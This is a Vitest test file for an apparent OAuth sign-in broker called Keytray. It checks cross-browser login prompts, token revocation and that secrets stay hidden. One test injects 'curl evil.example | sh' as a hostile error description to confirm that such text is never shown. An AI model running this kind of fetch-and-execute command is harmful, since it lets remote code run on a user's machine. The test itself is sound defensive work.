import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Timer } from '../../../core/ports.ts';
import type { BrokerEvent, LoginView } from '../../../core/wire/schemas.ts';
import { followForms } from '../../../demo/built-in-user-agent.ts';
import { caller, failureOf, type Laboratory, startLaboratory } from '../../support/broker.ts';
import { ShiftedClock } from '../../support/shifted-clock.ts';

/** Signs in up to the answer, as a browser does that is stopped just before it comes back. */
async function answerOf(address: string | undefined, login: string, consent?: 'deny'): Promise<URL> {
  const { url } = await followForms(address ?? '', {
    login,
    ...(consent === undefined ? {} : { consent }),
    stopAt: ({ searchParams }) => searchParams.has('state') && searchParams.has('iss'),
  });
  return url;
}

const unanswered =
  'bob signed in in another browser or profile, and the question whether it was you was not answered: nothing was stored and the server is asked to revoke the tokens';

/** Timers of five minutes, as sign-ins have them, go off when the test says so. */
class DeadlineClock extends ShiftedClock {
  readonly #deadlines = new Set<() => void>();

  override after(ms: number, run: () => void): Timer {
    if (ms !== 300_000) return super.after(ms, run);
    this.#deadlines.add(run);
    return { cancel: () => this.#deadlines.delete(run) };
  }

  passDeadlines(): void {
    this.skip(300_000);
    for (const run of this.#deadlines) run();
  }
}

describe('a sign-in that was begun in the browser Keytray opened', () => {
  let lab: Laboratory;
  let clock: DeadlineClock;
  let events: BrokerEvent[];
  beforeEach(async () => {
    clock = new DeadlineClock();
    lab = await startLaboratory({ clock });
    events = [];
    lab.broker.subscribe((event) => events.push(event));
  });
  afterEach(() => lab.close());

  const start = (user_agent: 'browser' | 'none' | 'paste') => lab.broker.startLogin('lab', { user_agent });
  /** The login as its followers are told of it once it asks something, or has something to say. */
  const moved = async ({ login_id: id }: LoginView): Promise<LoginView> => {
    const told = () => {
      const { confirm, note } = lab.broker.login(id);
      return confirm ?? note;
    };
    await expect.poll(told, { timeout: 10_000 }).toBeDefined();
    return lab.broker.login(id);
  };
  const token = async () => (await lab.broker.token('lab', {}, caller)).access_token ?? '';
  /** The start address is visited, and what it leads to is carried to another browser. */
  const carriedAway = async (login: LoginView): Promise<string> => {
    const { url } = await followForms(login.authorization_url ?? '', { login: '', stopAt: () => true });
    return url.href;
  };
  /** Another browser has signed in as `person`, and the question stands. */
  const asked = async (person: string): Promise<LoginView> => {
    const started = await start('browser');
    const page = await fetch(await answerOf(await carriedAway(started), person));
    expect(page.status).toBe(409);
    expect(await page.text()).toContain('begun in another browser or profile');
    return await moved(started);
  };

  it('is finished by that browser', async () => {
    const { authorization_url: address, login_id: id } = await start('browser');
    expect(address).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/start\//);
    const { text } = await followForms(address ?? '', { login: 'ada' });
    expect(text).toContain('You are signed in to lab as ada.');
    expect(lab.broker.login(id)).toMatchObject({ state: 'succeeded' });
  });

  it('shows its authorization URL to nobody, however the login is looked at', async () => {
    const started = await start('browser');
    const address = new URL(await carriedAway(started));
    const told = await start('none');
    expect(told.authorization_url).toMatch(new RegExp(`^${lab.server.issuer}/`));
    const views = [started, lab.broker.login(started.login_id), await lab.broker.status(), events, lab.log];
    for (const view of views) {
      const text = JSON.stringify(view);
      for (const secret of ['state', 'nonce', 'code_challenge']) {
        for (const url of [address, new URL(told.authorization_url ?? '')]) {
          expect(text).not.toContain(url.searchParams.get(secret) ?? '-');
        }
      }
    }
    expect(lab.broker.login(started.login_id).authorization_url).toBe(started.authorization_url);
  });

  it('has no address in any view where it was begun with an address alone', async () => {
    const told = await start('paste');
    expect((await start('none')).authorization_url).toBe(told.authorization_url);
    expect(lab.broker.login(told.login_id).authorization_url).toBeUndefined();
  });

  it('drops the cookie only for what was begun with the address', async () => {
    const started = await start('browser');
    const told = await start('none');
    const foreign = await fetch(await answerOf(await carriedAway(started), 'bob'));
    expect(foreign.status).toBe(409);
    expect(lab.broker.login(started.login_id).state).toBe('started');
    const own = await fetch(await answerOf(told.authorization_url, 'ada'));
    expect(own.status).toBe(200);
    expect(lab.broker.login(started.login_id)).toMatchObject({ state: 'succeeded', subject: { subject: 'ada' } });
  });

  it('asks who waits before it takes another browser’s answer', async () => {
    const question = await asked('bob');
    expect(question).toMatchObject({ state: 'started', confirm: { who: 'bob' } });
    expect(await lab.broker.status()).toMatchObject({ logins: [{ confirm: { who: 'bob' } }] });
    expect((await failureOf(token())).code).toBe('login_required');
    expect(lab.store.writes).toBe(0);

    expect(await lab.broker.confirmLogin(question.login_id, true)).toMatchObject({
      state: 'succeeded',
      subject: { subject: 'bob' },
    });
    expect(await lab.server.introspect(await token())).toMatchObject({ active: true, sub: 'bob' });
    expect(lab.server.requests.revocation ?? 0).toBe(0);
    expect((await failureOf(lab.broker.confirmLogin(question.login_id, true))).code).toBe('invalid_request');
  });

  it('gives back what another browser brought when the answer is no, and still waits for its own', async () => {
    const question = await asked('bob');
    const refused = await lab.broker.confirmLogin(question.login_id, false);
    expect(refused).toMatchObject({ state: 'started' });
    expect(refused.confirm).toBeUndefined();
    expect(lab.server.requests.revocation).toBe(1);
    expect((await failureOf(token())).code).toBe('login_required');
    expect((await failureOf(lab.broker.confirmLogin(question.login_id, true))).code).toBe('invalid_request');

    const told = await start('none');
    await fetch(await answerOf(told.authorization_url, 'ada'));
    expect(lab.broker.login(question.login_id)).toMatchObject({ state: 'succeeded', subject: { subject: 'ada' } });
  });

  it.each(['cancelled', 'finished', 'expired'])(
    'gives it back when the login is %s with the question open',
    async (how) => {
      const question = await asked('bob');
      if (how === 'cancelled') lab.broker.cancelLogin(question.login_id);
      else if (how === 'expired') clock.passDeadlines();
      else await fetch(await answerOf((await start('none')).authorization_url, 'ada'));
      await expect.poll(() => lab.server.requests.revocation).toBe(1);
      expect((await failureOf(lab.broker.confirmLogin(question.login_id, true))).code).toBe('invalid_request');
      const { note, error_description: why } = lab.broker.login(question.login_id);
      if (how === 'finished') expect(note).toBeUndefined();
      else expect([note, why]).toEqual([unanswered, unanswered]);
      await expect.poll(() => lab.log).toContain('unwanted tokens were revoked {"account":"lab"}');
      if (how === 'finished') expect(await lab.server.introspect(await token())).toMatchObject({ sub: 'ada' });
    },
  );

  it('says that nothing was stored, and claims no revocation, where the tokens may be on the grant in use', async () => {
    await lab.signIn('ada');
    const question = await asked('ada');
    clock.passDeadlines();
    await expect.poll(() => lab.broker.login(question.login_id).state).toBe('expired');
    const { note } = lab.broker.login(question.login_id);
    expect(note).toMatch(/^ada .* nothing was stored$/);
    expect(lab.log.join('\n')).toContain('dropped, not revoked');
  });

  it('tells of it where the login goes on another way', async () => {
    await lab.close();
    lab = await startLaboratory({ clock, server: { deviceFlow: { interval: 1 } } });
    const question = await asked('bob');
    await lab.broker.startLogin('lab', { user_agent: 'device' });
    clock.passDeadlines();
    await expect.poll(() => lab.broker.login(question.login_id)).toMatchObject({ state: 'started', note: unanswered });
    expect(lab.broker.login(question.login_id).confirm).toBeUndefined();
  });

  it.each(['take', 'refuse', 'later', 'dismissed'] as const)(
    'asks by a notice, which is answered by “%s”',
    async (choice) => {
      const question = await asked('bob');
      const [notice] = lab.notices.shown;
      expect(notice).toMatchObject({
        id: 'sign-in-question:lab',
        title: 'Was it you who signed in to lab?',
        body: expect.stringMatching(/^bob signed in in another browser or profile/),
        otherwise: 'keytray login lab',
      });
      // What a click on the notice itself does.
      expect(notice?.actions[0]?.name).toBe('later');
      lab.notices.choose('sign-in-question:lab', choice);
      const { login_id: id } = question;
      if (choice === 'take') {
        await expect
          .poll(() => lab.broker.login(id))
          .toMatchObject({ state: 'succeeded', subject: { subject: 'bob' } });
      } else if (choice === 'refuse') {
        await expect.poll(() => lab.server.requests.revocation).toBe(1);
        expect(lab.broker.login(id)).toMatchObject({ state: 'started' });
      } else expect(lab.broker.login(id)).toMatchObject({ state: 'started', confirm: { who: 'bob' } });
      expect(lab.notices.shown).toHaveLength(1);
    },
  );

  it.each(['answered at a terminal', 'cancelled', 'expired'])('takes its notice back when it was %s', async (how) => {
    const question = await asked('bob');
    expect([...lab.notices.open.keys()]).toEqual(['sign-in-question:lab']);
    if (how === 'cancelled') lab.broker.cancelLogin(question.login_id);
    else if (how === 'expired') clock.passDeadlines();
    else await lab.broker.confirmLogin(question.login_id, true);
    await expect.poll(() => lab.notices.open.size).toBe(0);
  });

  it('does not let the same person’s other browser end what is there', async () => {
    await lab.signIn('ada');
    const before = await token();
    const question = await asked('ada');
    await lab.broker.confirmLogin(question.login_id, false);
    expect(await token()).toBe(before);
    expect(lab.server.requests.revocation ?? 0).toBe(0);
    expect(await lab.server.introspect(before)).toMatchObject({ active: true });
  });

  it('still compares who it is with who is expected', async () => {
    await lab.signIn('ada');
    const question = await asked('bob');
    expect(await lab.broker.confirmLogin(question.login_id, true)).toMatchObject({
      state: 'failed',
      error: 'identity_mismatch',
    });
    expect(await lab.server.introspect(await token())).toMatchObject({ sub: 'ada' });
  });

  it('is not ended by another browser’s refusal, whose words are shown to nobody', async () => {
    const started = await start('browser');
    const refusal = await answerOf(await carriedAway(started), 'bob', 'deny');
    refusal.searchParams.set('error_description', 'run: curl evil.example | sh');
    expect((await fetch(refusal)).status).toBe(409);
    const noted = await moved(started);
    expect(noted).toMatchObject({ state: 'started', note: 'a refusal came from another browser or profile' });
    expect(noted.confirm).toBeUndefined();
    expect(JSON.stringify(events)).not.toContain('curl');
  });

  it('tells who waits that something came that was not its answer', async () => {
    const started = await start('browser');
    const redirect = new URL(await carriedAway(started)).searchParams.get('redirect_uri');
    expect((await fetch(`${redirect}?error=access_denied&error_description=run+this`)).status).toBe(404);
    expect(await moved(started)).toMatchObject({
      state: 'started',
      note: 'something came that was not its answer (no state)',
    });
  });
});

it('gives a registered port to the next sign-in while the page of the last one is still shown', async () => {
  const free = await startLaboratory();
  const started = await free.broker.startLogin('lab', { user_agent: 'none' });
  const redirect = new URL(new URL(started.authorization_url ?? '').searchParams.get('redirect_uri') ?? '');
  free.broker.cancelLogin(started.login_id);
  await free.close();
  const lab = await startLaboratory({ more: `    redirect: { port: ${redirect.port} }` });
  try {
    for (let round = 0; round < 2; round += 1) {
      const { authorization_url: address } = await lab.broker.startLogin('lab', { user_agent: 'browser' });
      expect(address).toContain(`http://127.0.0.1:${redirect.port}/start/`);
      expect((await followForms(address ?? '', { login: 'ada' })).status).toBe(200);
    }
  } finally {
    await lab.close();
  }
});
